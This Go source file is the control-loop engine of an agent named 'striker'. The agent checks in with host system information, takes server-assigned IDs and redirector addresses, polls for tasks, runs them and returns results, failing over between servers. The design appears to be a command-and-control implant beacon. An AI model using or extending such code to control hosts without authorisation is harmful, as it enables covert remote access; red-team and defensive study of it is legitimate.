// Package engine runs the agent's control loop: check-in, task polling,
// dispatch, result submission and failover between server addresses.
//
// The loop is a small state machine:
//
//	Uninitialized → Contacting → (FreshConfig | Resumed) → Active → (Reconnecting | Terminated)
//
// Reconnecting leads back to Contacting against the next address.  The
// engine is the only goroutine that talks to the task endpoints; tasks
// run detached and are tracked through the session's registry.
package engine

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"striker/internal/clock"
	"striker/internal/codec"
	serrors "striker/internal/errors"
	"striker/internal/metrics"
	"striker/internal/retry"
	"striker/internal/session"
	"striker/internal/sysinfo"
	"striker/internal/task"
	"striker/internal/transport"
	"striker/util"
)

const (
	// DefaultMaxContactFails is the number of consecutive failed
	// exchanges that triggers a failover.
	DefaultMaxContactFails = 3

	// DefaultGracePeriod bounds how long termination waits for running
	// tasks before the final flush.
	DefaultGracePeriod = 5 * time.Second

	// tick is the sleep slice; abort is observed at least this often.
	tick = time.Second

	// graceSlice is the polling step while waiting for running tasks.
	graceSlice = 100 * time.Millisecond
)

// ── State ────────────────────────────────────────────────────────────

// State is the engine's position in the control loop.
type State int32

const (
	StateUninitialized State = iota
	StateContacting
	StateFreshConfig
	StateResumed
	StateActive
	StateReconnecting
	StateTerminated
)

func (s State) String() string {
	switch s {
	case StateUninitialized:
		return "uninitialized"
	case StateContacting:
		return "contacting"
	case StateFreshConfig:
		return "fresh-config"
	case StateResumed:
		return "resumed"
	case StateActive:
		return "active"
	case StateReconnecting:
		return "reconnecting"
	case StateTerminated:
		return "terminated"
	default:
		return fmt.Sprintf("State(%d)", int32(s))
	}
}

// ── Wire messages ────────────────────────────────────────────────────

// checkIn is the body of a fresh check-in.
type checkIn struct {
	sysinfo.Info
	Key   string `json:"key" cbor:"key"`
	Delay int    `json:"delay" cbor:"delay"`
}

// agentConfig is the server's answer to a fresh check-in.
type agentConfig struct {
	UID         string   `json:"uid" cbor:"uid"`
	Delay       int      `json:"delay" cbor:"delay"`
	Redirectors []string `json:"redirectors" cbor:"redirectors"`
}

// ── Engine ───────────────────────────────────────────────────────────

// Runner executes a task to completion.  *executor.Executor satisfies it.
type Runner interface {
	Execute(sess *session.Session, t *task.Task)
}

// Config wires an Engine.  Session, Addresses, Transport and Executor
// are required.
type Config struct {
	Session   *session.Session
	Addresses *session.AddressList
	Transport transport.Transport
	Codec     codec.Codec // default JSON
	Executor  Runner
	Metrics   *metrics.Collector
	Logger    *util.Logger
	Clock     clock.Clock // default clock.Real()

	MaxContactFails int           // default DefaultMaxContactFails
	GracePeriod     time.Duration // default DefaultGracePeriod

	// SysInfo describes the host at check-in (default sysinfo.Collect).
	SysInfo func() sysinfo.Info
}

// Engine drives one session against the server.
type Engine struct {
	sess    *session.Session
	addrs   *session.AddressList
	tr      transport.Transport
	codec   codec.Codec
	runner  Runner
	metrics *metrics.Collector
	log     *util.Logger
	clock   clock.Clock
	grace   time.Duration
	sysinfo func() sysinfo.Info

	breaker *retry.CircuitBreaker
	state   atomic.Int32
	running sync.WaitGroup
}

// New creates an Engine.  The transport is pointed at the current
// address of the list.
func New(cfg Config) *Engine {
	e := &Engine{
		sess:    cfg.Session,
		addrs:   cfg.Addresses,
		tr:      cfg.Transport,
		codec:   cfg.Codec,
		runner:  cfg.Executor,
		metrics: cfg.Metrics,
		clock:   cfg.Clock,
		grace:   cfg.GracePeriod,
		sysinfo: cfg.SysInfo,
	}
	if cfg.Logger == nil {
		cfg.Logger = util.NewLogger(0)
	}
	e.log = cfg.Logger.Named("engine")
	if e.codec == nil {
		e.codec = codec.JSON()
	}
	if e.clock == nil {
		e.clock = clock.Real()
	}
	if e.grace <= 0 {
		e.grace = DefaultGracePeriod
	}
	if e.sysinfo == nil {
		e.sysinfo = sysinfo.Collect
	}
	maxFails := cfg.MaxContactFails
	if maxFails <= 0 {
		maxFails = DefaultMaxContactFails
	}
	e.breaker = retry.NewCircuitBreaker(&retry.CircuitBreakerConfig{
		MaxFailures: maxFails,
		OnTrip: func(failures int, err error) {
			e.log.Warn("%d consecutive contact failures, last: %v", failures, err)
		},
	})
	e.tr.SetBase(e.addrs.Current())
	return e
}

// State returns the current state.
func (e *Engine) State() State { return State(e.state.Load()) }

func (e *Engine) setState(s State) {
	old := State(e.state.Swap(int32(s)))
	if old != s {
		e.log.Debug("%s → %s", old, s)
	}
}

// Run drives the session until it is aborted, either by an abort task
// or by cancelling ctx.  It returns nil on abort and an error only when
// the session cannot continue, such as a fresh check-in that yields no
// identity.
func (e *Engine) Run(ctx context.Context) error {
	stop := context.AfterFunc(ctx, e.sess.Abort)
	defer stop()
	defer e.terminate()

	for !e.sess.Aborted() {
		if err := e.contact(); err != nil {
			return err
		}
		if e.sess.Aborted() {
			break
		}
		e.active()
	}
	return nil
}

// ── Contacting ───────────────────────────────────────────────────────

// contact cycles through the address list until a check-in succeeds or
// the session is aborted.  Only fatal configuration errors are returned.
func (e *Engine) contact() error {
	e.setState(StateContacting)
	for !e.sess.Aborted() {
		var err error
		if id := e.sess.ID(); id == "" {
			err = e.checkIn()
		} else {
			err = e.resume(id)
		}
		if err == nil {
			e.metrics.CheckIn()
			return nil
		}
		if serrors.IsFatal(err) {
			e.log.Error("check-in with %s: %v", e.tr.Base(), err)
			e.metrics.RecordError(err.Error())
			return err
		}

		if serrors.IsRetryable(err) {
			e.log.Verbose("check-in with %s failed: %v", e.tr.Base(), err)
		} else {
			e.log.Warn("check-in with %s failed: %v", e.tr.Base(), err)
		}
		e.metrics.ContactFailed(err.Error())
		e.sleep(time.Duration(e.sess.Delay()) * time.Second)
		if e.sess.Aborted() {
			break
		}
		next := e.addrs.Next()
		e.tr.SetBase(next)
		e.log.Debug("next address: %s", next)
	}
	return nil
}

// checkIn registers as a new agent and applies the returned config.
func (e *Engine) checkIn() error {
	body, err := e.codec.Marshal(checkIn{
		Info:  e.sysinfo(),
		Key:   e.sess.AuthKey(),
		Delay: e.sess.Delay(),
	})
	if err != nil {
		return serrors.Protocol("checkin", err)
	}
	resp, err := e.tr.Post(e.sess.Context(), "/agent/init", body)
	if err != nil {
		return err
	}

	e.setState(StateFreshConfig)
	var cfg agentConfig
	if err := e.codec.Unmarshal(resp.Body, &cfg); err != nil {
		return serrors.Protocol("config", err)
	}
	if cfg.UID == "" {
		return serrors.ErrIdentityMissing
	}
	if err := e.sess.SetID(cfg.UID); err != nil {
		return serrors.Protocol("config", err)
	}
	if cfg.Delay > 0 {
		e.sess.SetDelay(cfg.Delay)
	}
	current := e.tr.Base()
	e.addrs.Replace(current, cfg.Redirectors)
	e.tr.SetBase(e.addrs.Current())

	e.log.Info("registered as %s (delay %ds, %d addresses)", cfg.UID, e.sess.Delay(), e.addrs.Len())
	return nil
}

// resume probes the server for an existing identity.
func (e *Engine) resume(id string) error {
	if _, err := e.tr.Get(e.sess.Context(), "/agent/ping/"+id); err != nil {
		return err
	}
	e.setState(StateResumed)
	e.log.Info("resumed %s at %s", id, e.tr.Base())
	return nil
}

// ── Active ───────────────────────────────────────────────────────────

// active runs the poll loop until the session is aborted or the contact
// failure threshold forces a failover.  Finished results go out on every
// tick of the wait; tasks are fetched once per callback delay.
func (e *Engine) active() {
	e.setState(StateActive)
	e.breaker.Reset()

	for {
		clean := true
		deadline := e.clock.Now().Add(time.Duration(e.sess.Delay()) * time.Second)
		for e.clock.Now().Before(deadline) && !e.sess.Aborted() {
			e.clock.Sleep(e.sess.Context(), tick) //nolint:errcheck
			if !e.flush() {
				clean = false
				if e.breaker.Open() {
					e.failover()
					return
				}
			}
		}
		if e.sess.Aborted() {
			return
		}

		if err := e.fetch(); err != nil {
			e.fail("fetch", err)
			clean = false
		}
		if clean {
			e.breaker.Record(nil)
			e.metrics.Contact()
		}

		if e.breaker.Open() {
			e.failover()
			return
		}
	}
}

// flush moves finished tasks to the completed set and submits it.  It
// reports false when the submission failed.
func (e *Engine) flush() bool {
	e.sess.Tasks.Collect()
	if err := e.submit(context.WithoutCancel(e.sess.Context())); err != nil {
		e.fail("submit", err)
		return false
	}
	return true
}

func (e *Engine) fail(op string, err error) {
	e.log.Verbose("%s: %v", op, err)
	e.metrics.ContactFailed(fmt.Sprintf("%s: %v", op, err))
	e.breaker.Record(err)
}

// submit posts the completed set.  The set is only released after the
// server accepted it; a failed batch is resent unchanged.
func (e *Engine) submit(ctx context.Context) error {
	batch := e.sess.Tasks.Batch()
	if len(batch) == 0 {
		return nil
	}
	body, err := e.codec.Marshal(batch)
	if err != nil {
		return serrors.Protocol("results", err)
	}
	if _, err := e.tr.Post(ctx, "/agent/tasks/"+e.sess.ID(), body); err != nil {
		return err
	}
	n := e.sess.Tasks.Ack(batch)
	e.metrics.BatchSent()
	e.log.Verbose("submitted %d results", n)
	return nil
}

// fetch pulls new tasks and starts each on its own goroutine.
func (e *Engine) fetch() error {
	resp, err := e.tr.Get(e.sess.Context(), "/agent/tasks/"+e.sess.ID())
	if err != nil {
		return err
	}
	var batch []task.Descriptor
	if len(resp.Body) > 0 {
		if err := e.codec.Unmarshal(resp.Body, &batch); err != nil {
			return serrors.Protocol("tasks", err)
		}
	}
	for _, d := range batch {
		e.dispatch(d)
	}
	return nil
}

func (e *Engine) dispatch(d task.Descriptor) {
	t, err := task.New(e.sess.Context(), d)
	if err != nil {
		e.log.Warn("dropping task: %v", err)
		return
	}

	switch err := e.sess.Tasks.Add(t); {
	case err == nil:
	case serrors.Is(err, serrors.ErrRegistryFull):
		e.log.Warn("task %s rejected: queue full", t.ID())
		e.metrics.TaskRejected()
		t.Complete("Task queue full!", false)
		if err := e.sess.Tasks.AddCompleted(t); err != nil {
			e.log.Warn("task %s: result dropped: %v", t.ID(), err)
		}
		return
	default:
		e.log.Debug("task %s ignored: %v", t.ID(), err)
		return
	}

	e.log.Verbose("task %s: %s", t.ID(), t.Kind())
	e.running.Add(1)
	go func() {
		defer e.running.Done()
		e.runner.Execute(e.sess, t)
	}()
}

// failover discards all tasks and moves to the next address.
func (e *Engine) failover() {
	e.setState(StateReconnecting)
	if n := e.sess.Tasks.Drain(); n > 0 {
		e.log.Warn("failover: discarded %d tasks", n)
		e.metrics.TasksDiscarded(n)
	}
	e.breaker.Reset()
	e.metrics.Failover()

	next := e.addrs.Next()
	e.tr.SetBase(next)
	e.log.Info("failing over to %s", next)
}

// ── Terminated ───────────────────────────────────────────────────────

// terminate waits up to the grace period for running tasks, submits
// whatever completed, and releases the rest.
func (e *Engine) terminate() {
	e.setState(StateTerminated)
	e.sess.Abort()

	if !e.waitRunning() {
		e.log.Warn("tasks still running after %s", e.grace)
	}
	if e.sess.ID() != "" {
		e.sess.Tasks.Collect()
		ctx, cancel := context.WithTimeout(context.Background(), e.grace)
		if err := e.submit(ctx); err != nil {
			e.log.Verbose("final submit: %v", err)
		}
		cancel()
	}
	if n := e.sess.Tasks.Drain(); n > 0 {
		e.log.Verbose("discarded %d tasks at exit", n)
		e.metrics.TasksDiscarded(n)
	}
	e.log.Debug("metrics: %s", e.metrics.JSON())
	e.log.Info("session terminated")
}

// waitRunning reports whether every task goroutine returned within the
// grace period.
func (e *Engine) waitRunning() bool {
	done := make(chan struct{})
	go func() {
		e.running.Wait()
		close(done)
	}()

	deadline := e.clock.Now().Add(e.grace)
	for {
		select {
		case <-done:
			return true
		default:
		}
		if !e.clock.Now().Before(deadline) {
			return false
		}
		e.clock.Sleep(context.Background(), graceSlice) //nolint:errcheck
	}
}

// sleep waits d in tick slices, returning early on abort.
func (e *Engine) sleep(d time.Duration) {
	deadline := e.clock.Now().Add(d)
	for e.clock.Now().Before(deadline) && !e.sess.Aborted() {
		e.clock.Sleep(e.sess.Context(), tick) //nolint:errcheck
	}
}
